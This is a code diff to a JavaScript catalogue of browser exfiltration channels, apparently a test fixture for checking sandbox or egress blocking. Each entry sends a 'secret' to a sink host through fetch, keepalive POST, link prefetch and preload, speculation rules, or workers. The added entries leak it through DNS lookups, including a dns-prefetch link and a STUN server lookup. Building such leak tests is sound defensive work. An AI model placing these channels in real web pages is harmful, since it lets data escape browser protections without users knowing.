@@ -1,7 +1,22 @@
-// Every way out that a browser has. `at` is host:port of the sink, `port` its port alone. Evaluates to an object.
+// Every way out that a browser has. `at` is host:port of the sink, `port` its port alone, `name` a name that only the
+// sink's name server could know. Evaluates to an object.
 ({
   fetch: ({ at }) => fetch(`http://${at}/?secret`, { mode: "no-cors" }),
   "fetch by name": ({ port }) => fetch(`http://localhost:${port}/?secret`, { mode: "no-cors" }),
+  DNS: ({ name }) => fetch(`http://dns.${name}/?secret`, { mode: "no-cors" }),
+  "DNS prefetch": ({ name }) => {
+    const link = document.createElement("link");
+    link.rel = "dns-prefetch";
+    link.href = `//prefetch.${name}`;
+    document.head.append(link);
+  },
+  "DNS of a STUN server": async ({ name }) => {
+    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:stun.${name}` }] });
+    peer.createDataChannel("x");
+    await peer.setLocalDescription(await peer.createOffer());
+    await new Promise((go) => setTimeout(go, 600));
+    peer.close();
+  },
   "fetch keepalive": ({ at }) =>
     fetch(`http://${at}/`, { method: "POST", body: "secret", keepalive: true, mode: "no-cors" }),
   XMLHttpRequest: ({ at }) =>
@@ -81,27 +96,29 @@
     document.body.append(form);
     form.submit();
   },
-  links: ({ at }) => {
-    const kinds = ["prefetch", "preload", "preconnect", "dns-prefetch", "modulepreload", "icon", "manifest", "stylesheet"];
-    for (const rel of kinds) {
-      const link = document.createElement("link");
-      link.rel = rel;
-      link.as = "script";
-      link.href = `http://${at}/?secret`;
-      document.head.append(link);
-    }
-  },
+  ...Object.fromEntries(
+    ["prefetch", "preload", "preconnect", "modulepreload", "icon", "stylesheet"].map((rel) => [
+      `link ${rel}`,
+      ({ at }) => {
+        const link = document.createElement("link");
+        link.rel = rel;
+        if (rel === "preload") link.as = "script";
+        link.href = `http://${at}/?secret`;
+        document.head.append(link);
+      },
+    ]),
+  ),
   speculation: ({ at }) => {
     const rules = document.createElement("script");
     rules.type = "speculationrules";
-    rules.textContent = JSON.stringify({ prefetch: [{ urls: [`http://${at}/?secret`] }] });
+    rules.textContent = JSON.stringify({ prefetch: [{ urls: [`https://${at}/?secret`] }] });
     document.head.append(rules);
   },
-  worker: ({ at }) =>
+  "worker that imports": ({ at }) =>
     new Promise((go) => {
-      const worker = new Worker(`http://${at}/secret.js`);
+      const worker = new Worker(URL.createObjectURL(new Blob([`importScripts("http://${at}/secret.js")`])));
       worker.onerror = go;
-      setTimeout(go, 100);
+      setTimeout(go, 200);
     }),
   "worker of a blob": ({ at }) =>
     new Promise((go) => {
